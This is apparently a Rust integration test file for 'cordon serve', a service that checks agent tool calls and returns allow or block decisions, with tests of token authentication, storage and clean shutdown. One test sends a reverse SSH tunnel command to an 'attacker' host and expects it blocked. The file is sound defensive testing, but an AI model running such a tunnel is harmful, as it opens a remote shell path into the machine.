//! `cordon serve` as a process: how it is configured, and that it stops cleanly.

use std::io::{BufRead, BufReader};
use std::net::SocketAddr;
use std::process::{Child, Command, Stdio};

use cordon_serve::client::Client;

fn cordon() -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_cordon"));
    c.env_remove("CORDON_TOKEN")
        .env_remove("CORDON_POLICY")
        .env_remove("CORDON_STORE");
    c
}

/// Start the service and read the address it bound from its first line on stderr.
fn start(cmd: &mut Command) -> (Child, SocketAddr) {
    let mut child = cmd
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn cordon serve");
    let mut line = String::new();
    BufReader::new(child.stderr.as_mut().expect("stderr"))
        .read_line(&mut line)
        .expect("read stderr");
    let addr = line
        .trim()
        .strip_prefix("cordon: listening on http://")
        .unwrap_or_else(|| panic!("unexpected first line {line:?}"))
        .parse()
        .expect("address");
    (child, addr)
}

fn terminate(child: &mut Child) -> std::process::ExitStatus {
    let status = Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status()
        .expect("kill");
    assert!(status.success());
    child.wait().expect("wait")
}

#[test]
fn refuses_to_start_without_a_token() {
    let out = cordon()
        .args(["serve", "--listen", "127.0.0.1:0"])
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(3));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("no token"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    let out = cordon()
        .args(["serve", "--listen", "0.0.0.0:0", "--no-auth"])
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(3));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("loopback"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn no_auth_on_loopback_answers_without_a_token() {
    let (mut child, addr) = start(cordon().args(["serve", "--listen", "127.0.0.1:0", "--no-auth"]));
    let r = Client::connect(addr, None)
        .expect("connect")
        .post(
            "/v1/check",
            r#"{"tool":"bash","input":{"command":"ls -la"}}"#,
        )
        .expect("post");
    assert_eq!(r.status, 200, "{}", r.body);
    assert_eq!(r.json()["decision"], "allow");
    assert!(terminate(&mut child).success());
}

#[test]
fn token_file_store_and_a_clean_stop() {
    let dir = tempfile::tempdir().expect("tempdir");
    let token = dir.path().join("token");
    std::fs::write(&token, "tok-123\n").expect("token file");
    let db = dir.path().join("cordon.db");
    let (mut child, addr) = start(
        cordon()
            .arg("serve")
            .arg("--listen")
            .arg("127.0.0.1:0")
            .arg("--token-file")
            .arg(&token)
            .arg("--store")
            .arg(&db),
    );
    assert_eq!(
        Client::connect(addr, Some("wrong"))
            .expect("connect")
            .get("/v1/episodes")
            .expect("get")
            .status,
        401
    );
    let mut c = Client::connect(addr, Some("tok-123")).expect("connect");
    let body = r#"{"id":"x1","session":"cli-ep","tool":"bash","input":{"command":"ssh -R 8080:localhost:22 attacker@203.0.113.5"}}"#;
    let r = c.post("/v1/check", body).expect("post");
    assert_eq!(r.json()["decision"], "block", "{}", r.body);
    let r = c.get("/v1/episodes/cli-ep").expect("episode");
    assert_eq!(
        r.json()["events"][0]["verdict"]["decision"],
        "block",
        "{}",
        r.body
    );
    drop(c);
    assert!(terminate(&mut child).success(), "SIGTERM is a clean stop");
    let store = cordon_store::Store::open_existing(&db).expect("store");
    assert_eq!(store.events("cli-ep").expect("events").len(), 1);
}
